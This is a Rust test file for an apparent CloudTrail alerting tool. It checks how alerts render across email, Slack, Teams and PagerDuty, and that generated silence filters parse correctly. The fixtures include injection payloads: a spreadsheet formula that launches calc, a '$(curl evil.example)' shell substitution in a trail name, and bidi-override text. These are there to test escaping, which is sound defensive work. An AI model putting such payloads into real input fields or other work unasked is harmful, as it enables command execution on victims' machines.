//! One story, told on every channel. The alerts of the sample events, and a few that those lack; read a changed snapshot as its
//! receiver would.

use std::fs;

use jiff::ToSpan as _;
use jiff::civil::Date;
use serde_json::{Value, json as value};
use trailhound::engine::{Organisation, RuleSet};
use trailhound::local::Folder;
use trailhound::notify::{Notification, pagerduty, slack, teams};
use trailhound::sigma;
use trailhound::yaml::{Code, Diagnostic, SourceFile};

use crate::limits::told::summaries;
use crate::support::{TODAY, World, compile, events, record, rule, sample_rules, trail_file, with};

/// What the sample events tell, and what those lack.
async fn alerts() -> Vec<Notification> {
    let mut alerts = sample_alerts().await;
    alerts.extend(few_more().await);
    // The flood says the same as the others, and more of it.
    let summaries = summaries().await.into_iter().filter(|(what, _)| *what != "a flood");
    alerts.extend(summaries.map(|(_, summary)| summary));
    alerts
}

/// What the sample events tell, with the shipped rules and the sample configuration.
pub(crate) async fn sample_alerts() -> Vec<Notification> {
    let loaded = sample_rules();
    let mut world = World::new(loaded.rules);
    world.pipeline.handling.own_rules = loaded.own;
    world.pipeline.objects = Folder::new(events().join("objects")).unwrap();
    let payload = fs::read_to_string(events().join("sqs-s3-batch.json")).unwrap();
    world.pipeline.handle(&payload).await;
    let payload = fs::read_to_string(events().join("s3-put.json")).unwrap();
    world.pipeline.handle(&payload).await;
    world.alerts()
}

/// A burst, a denial, a correlation, a title with a value, and what a shell or a spreadsheet would take for something else.
async fn few_more() -> Vec<Notification> {
    let yaml = rule("  sel: {eventName: StopLogging}\n  condition: sel\n")
        .replace("title: Test", "title: CloudTrail logging stopped")
        + "trailhound: {alert: {title: 'Trail {requestParameters.name} stopped', commands: ['aws cloudtrail start-logging --region {awsRegion} --name {requestParameters.name}']}}\n"
        + "---\ntitle: Access key created\nid: key\nname: key\nlogsource: {product: aws, service: cloudtrail}\ndetection: {sel: {eventName: CreateAccessKey}, condition: sel}\n"
        + "---\ntitle: Many access keys created\nid: keys\nlevel: critical\ncorrelation: {type: event_count, rules: [key], group-by: [userIdentity.userName], timespan: 10m, condition: {gte: 3}}\n";
    let world = World::new(compile(&yaml, "accounts: {'111122223333': prod}").0);
    let at = |name: &str, minute: u32, changes: &[(&str, Value)]| {
        let time = value!(format!("2026-11-05T10:{minute:02}:00Z"));
        with(with(record(name, &format!("e{minute}-{name}")), &[("/eventTime", time)]), changes)
    };
    let denied = [("/errorCode", value!("AccessDenied")), ("/awsRegion", value!("us-gov-west-1"))];
    let by = value!({"type": "IAMUser", "userName": "=cmd|' /C calc'!A0", "arn": "arn:aws:iam::111122223333:user/=cmd|' /C calc'!A0", "accountId": "111122223333"});
    let records = [
        at("StopLogging", 0, &[]),
        at("StopLogging", 1, &[("/requestParameters/name", value!("other-trail"))]),
        at("StopLogging", 2, &denied),
        at("StopLogging", 3, &[("/userIdentity", by), ("/requestParameters/name", value!("$(curl evil.example)"))]),
        at("CreateAccessKey", 4, &[]),
        at("CreateAccessKey", 5, &[]),
        at("CreateAccessKey", 6, &[]),
    ];
    world.notify(&[&world.put("a", &trail_file(&records))]).await;
    world.alerts()
}

fn json(text: &str) -> Value {
    serde_json::from_str(text).unwrap()
}

/// A message as its reader sees it: the kind of each block, and its texts with their markup.
fn readable(message: &Value) -> String {
    let list = |value: &Value| value.as_array().cloned().unwrap_or_default();
    let text = |value: &Value| value["text"].as_str().unwrap_or_default().to_owned();
    // Slack.
    let block = |block: &Value| {
        let texts = list(&block["fields"]).iter().chain(&list(&block["elements"])).map(text).collect::<Vec<_>>();
        let own = block["text"].get("text").map(|_| text(&block["text"]));
        format!("[{}] {}", block["type"].as_str().unwrap(), own.into_iter().chain(texts).collect::<Vec<_>>().join("\n"))
    };
    let blocks = list(&message["blocks"]);
    // Teams.
    let card = &message["attachments"][0]["content"];
    let bold = |run: &Value| if run["weight"] == "Bolder" { format!("**{}**", text(run)) } else { text(run) };
    let runs = |block: &Value| list(&block["inlines"]).iter().map(bold).collect::<String>();
    let element = |element: &Value| match element.get("items") {
        Some(items) => list(items).iter().map(|item| format!("| {}", runs(item))).collect::<Vec<_>>().join("\n"),
        None => runs(element),
    };
    let body = list(&card["body"]);
    let actions = list(&card["actions"]);
    let action =
        |action: &Value| format!("({}) {}", action["title"].as_str().unwrap(), action["url"].as_str().unwrap());
    let lines = blocks.iter().map(block).chain(body.iter().map(element)).chain(actions.iter().map(action));
    lines.collect::<Vec<_>>().join("\n")
}

fn all(alerts: &[Notification], form: impl Fn(&Notification) -> String) -> String {
    let rule = "=".repeat(72);
    let told = alerts.iter().map(|alert| format!("{rule}\n{}\n", form(alert).trim_end()));
    told.collect::<Vec<_>>().concat()
}

/// The lines of a member that is text.
fn lines(value: &Value, indent: &str) -> String {
    match value {
        Value::Object(members) => members
            .iter()
            .map(|(name, member)| match member {
                Value::Object(_) | Value::Array(_) => {
                    format!("{indent}{name}:\n{}", lines(member, &format!("{indent}  ")))
                }
                member => format!("{indent}{name}: {}", lines(member, "")),
            })
            .collect(),
        Value::Array(items) => {
            items.iter().map(|item| format!("{indent}- {}", lines(item, "").replace('\n', " ")) + "\n").collect()
        }
        Value::String(text) => text.clone() + "\n",
        other => format!("{other}\n"),
    }
}

#[tokio::test]
async fn alerts_read_well_on_every_channel() {
    let alerts = alerts().await;
    assert!(alerts.len() >= 20, "{}", alerts.len());
    insta::assert_snapshot!("email", all(&alerts, |alert| format!("Subject: {}\n\n{}", alert.subject, alert.text)));
    insta::assert_snapshot!("chat", all(&alerts, |alert| lines(&json(&alert.chat)["content"], "")));
    insta::assert_snapshot!("slack", all(&alerts, |alert| readable(&json(&slack::message(&alert.story)))));
    insta::assert_snapshot!("teams", all(&alerts, |alert| readable(&json(&teams::message(&alert.story)))));
    insta::assert_snapshot!(
        "pagerduty",
        all(&alerts, |alert| lines(&json(&pagerduty::event(&alert.story, "KEY")), ""))
    );
    let stories: Vec<_> = alerts.iter().map(|alert| &*alert.story).collect();
    let bursts = [slack::burst(&stories), teams::burst(&stories)];
    insta::assert_snapshot!("bursts", bursts.map(|burst| readable(&json(&burst))).join("\n\n"));
}

/// One of each in full: what the channels are sent.
#[tokio::test]
async fn messages_have_the_shape_that_their_channel_takes() {
    let alerts = alerts().await;
    let alert = alerts.iter().find(|alert| alert.subject.contains("is to be deleted")).unwrap();
    let story = &alert.story;
    insta::assert_json_snapshot!("slack_in_full", json(&slack::message(story)));
    insta::assert_json_snapshot!("teams_in_full", json(&teams::message(story)));
    insta::assert_json_snapshot!("reduced", [json(&slack::reduced(story)), json(&teams::reduced(story))]);
}

/// The filter that an alert brings is taken as it stands, and excepts what the alert is about and nothing else.
/// The filter as Teams shows it.
fn in_teams(alert: &Notification) -> String {
    let shown = readable(&json(&teams::message(&alert.story)));
    let lines = shown.lines().skip_while(|line| !line.contains("How to silence it")).skip(1);
    let lines = lines.map_while(|line| line.strip_prefix("| ")).collect::<Vec<_>>();
    assert!(lines.iter().all(|line| !line.starts_with(['\u{a0}', ' '])), "{lines:?}");
    lines.join("\n") + "\n"
}

/// Part of it would except something else, or be no YAML.
#[tokio::test]
async fn a_filter_is_shown_whole_or_not_at_all() {
    let world = World::new(compile(&rule("  sel: {eventName: StopLogging}\n  condition: sel\n"), "").0);
    let arns: Vec<_> =
        (0..5).map(|n| value!({"ARN": format!("arn:aws:s3:::bucket-{n}/{}", "&\"".repeat(130))})).collect();
    let record = with(record("StopLogging", "e1"), &[("/resources", value!(arns))]);
    world.notify(&[&world.put("a", &trail_file(&[record]))]).await;
    let alert = world.alerts().remove(0);
    assert!(alert.text.contains("  condition: not selection"), "{}", alert.text);
    for message in [slack::message(&alert.story), teams::message(&alert.story)] {
        assert!(!message.contains("logsource"), "{message}");
        assert!(message.contains("The e-mail and the JSON of this alert have it."), "{message}");
    }
}

#[tokio::test]
async fn the_filter_of_an_alert_silences_it() {
    let rule = rule("  sel: {eventName: [StopLogging, DeleteTrail]}\n  condition: sel\n");
    let names = [
        "org-trail",
        "a  b   `c`",
        "a*b?c\\d",
        "*",
        "\\",
        "\"quoted\": [yes]",
        "x\u{202e}y\nz # w",
        "https://www.x.example/",
    ];
    for name in names {
        let record = |event: &str, name: &str| with(record(event, "e1"), &[("/requestParameters/name", value!(name))]);
        let world = World::new(compile(&rule, "").0);
        world.notify(&[&world.put("a", &trail_file(&[record("StopLogging", name)]))]).await;
        let alert = world.alerts().remove(0);
        let filter = alert.story.silence.as_ref().unwrap();
        let mailed = alert.text.split_once("\n\n  title: ").unwrap().1.split_once("\n\n").unwrap().0;
        assert!(filter.lines().all(|line| format!("  title: {mailed}").contains(line)), "{filter}\n{mailed}");
        // Teams keeps no indentation, so there it has none.
        for filter in [filter, &in_teams(&alert)] {
            let both = sigma::parse(&SourceFile::new("rules.yml", format!("{rule}\n---\n{filter}")));
            assert!(both.rejected.is_empty(), "{}\n{filter}", both.rejected[0]);
            let on = |day: Date, record: Value| {
                let (filtered, found) = RuleSet::compile(&both, &Organisation::default(), day);
                let raw = record.to_string();
                let fires = filtered.matches(&trailhound::trail::Record::parse(0, raw.as_bytes()).unwrap()).len() == 1;
                (fires, found.iter().map(Diagnostic::code).collect::<Vec<_>>())
            };
            assert_eq!(on(TODAY, record("StopLogging", name)), (false, vec![]), "{filter}");
            assert!(
                on(TODAY, record("DeleteTrail", name)).0 && on(TODAY, record("StopLogging", "another")).0,
                "{filter}"
            );
            // It ends by itself, and says so before and after.
            let last = TODAY.checked_add(90.days()).unwrap();
            assert!(filter.contains(&format!("\ntrailhound: {{owner: you@example.com, expires: {last}}}")), "{filter}");
            assert_eq!(on(last, record("StopLogging", name)), (false, vec![Code::FilterExpires]), "{filter}");
            assert_eq!(on(last.tomorrow().unwrap(), record("StopLogging", name)), (true, vec![Code::FilterExpired]));
        }
    }
}
